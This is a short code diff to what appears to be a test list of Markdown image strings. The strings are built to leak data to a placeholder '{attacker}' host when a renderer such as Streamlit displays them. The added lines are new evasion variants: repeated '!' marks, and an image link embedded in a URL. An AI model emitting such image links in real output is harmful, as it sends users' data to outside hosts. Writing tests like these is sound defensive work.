@@ -48,6 +48,8 @@ LEAKS = [
     "> ![quoted]({attacker}/quoted)\n\n* ![listed]({attacker}/listed)",
     "| a |\n|---|\n| ![cell]({attacker}/cell) |",
     "![split\nover lines]({attacker}/lines 'title')",
+    "!![leak]({attacker}/twice) !!![leak]({attacker}/thrice)",
+    "https://example.org/!![leak]({attacker}/address)",
     # To Streamlit, what is in quotes here belongs to a directive within the image's name.
     """![x:a{b="](data:image/png;base64,AAAA)"}]({attacker}/named?secret)""",
     """![x:a{b='](data:image/png;base64,AAAA)'}]({attacker}/named2)""",
